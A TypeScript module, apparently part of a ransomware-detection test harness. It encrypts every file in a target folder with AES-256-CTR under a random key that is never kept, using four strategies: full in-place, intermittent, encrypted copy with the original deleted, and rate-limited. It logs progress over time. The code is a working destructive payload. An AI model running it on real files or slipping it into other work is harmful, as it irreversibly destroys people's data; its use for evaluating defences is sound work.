/** What ransomware does to files: AES-256-CTR under a key nobody has, in the ways that are in use. */
import { createCipheriv, randomBytes } from 'node:crypto';
import { open, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { KIB, systemClock } from '../../packages/runtime/src/index.ts';
import { filesIn } from './victim-disk.ts';

export interface Progress {
  readonly atMs: number;
  readonly encryptedBytes: number;
}

export interface Attack {
  readonly name: string;
  /** At most so many bytes a second; absent: as fast as it goes. */
  readonly bytesPerSecond?: number;
  /** Resolves to the bytes it encrypted. */
  encrypt(path: string): Promise<number>;
}

const PART_BYTES = 64 * KIB;
/** Smaller ones are not worth it. */
const FILE_BYTES_MIN = 4 * KIB;

export const ATTACKS: readonly Attack[] = [
  { name: 'in place, each file synced', encrypt: (path) => inPlace(path, 1, true) },
  { name: 'in place, every other 64 KiB, not synced', encrypt: (path) => inPlace(path, 2, false) },
  { name: 'encrypted copy, original deleted', encrypt: copyAndDelete },
  { name: 'in place at 0.5 MB/s', bytesPerSecond: 500_000, encrypt: (path) => inPlace(path, 1, true) },
];

/** Until all is encrypted or it is told to stop; what it had done when. */
export async function runAttack(
  attack: Attack,
  folder: string,
  isStopped: () => boolean,
): Promise<readonly Progress[]> {
  const startMs = systemClock.nowMs();
  const progress: Progress[] = [{ atMs: startMs, encryptedBytes: 0 }];
  let encryptedBytes = 0;
  for (const path of await filesIn(folder)) {
    if (isStopped()) break;
    if ((await stat(path)).size < FILE_BYTES_MIN) continue;
    encryptedBytes += await attack.encrypt(path);
    progress.push({ atMs: systemClock.nowMs(), encryptedBytes });
    const { bytesPerSecond } = attack;
    if (bytesPerSecond === undefined) continue;
    const dueMs = startMs + (encryptedBytes / bytesPerSecond) * 1000;
    await systemClock.sleep(Math.max(0, dueMs - systemClock.nowMs()));
  }
  return progress;
}

export function encryptedAt(progress: readonly Progress[], atMs: number): number {
  return progress.findLast((step) => step.atMs <= atMs)?.encryptedBytes ?? 0;
}

async function inPlace(path: string, every: number, synced: boolean): Promise<number> {
  const file = await open(path, 'r+');
  try {
    const { size } = await file.stat();
    const cipher = newCipher();
    const part = Buffer.alloc(PART_BYTES);
    let encryptedBytes = 0;
    for (let at = 0; at < size; at += PART_BYTES * every) {
      const { bytesRead } = await file.read(part, 0, PART_BYTES, at);
      await file.write(cipher.update(part.subarray(0, bytesRead)), 0, bytesRead, at);
      encryptedBytes += bytesRead;
    }
    if (synced) await file.datasync();
    return encryptedBytes;
  } finally {
    await file.close();
  }
}

async function copyAndDelete(path: string): Promise<number> {
  const content = await readFile(path);
  await writeFile(`${path}.locked`, newCipher().update(content));
  await rm(path);
  return content.length;
}

function newCipher() {
  return createCipheriv('aes-256-ctr', randomBytes(32), randomBytes(16));
}
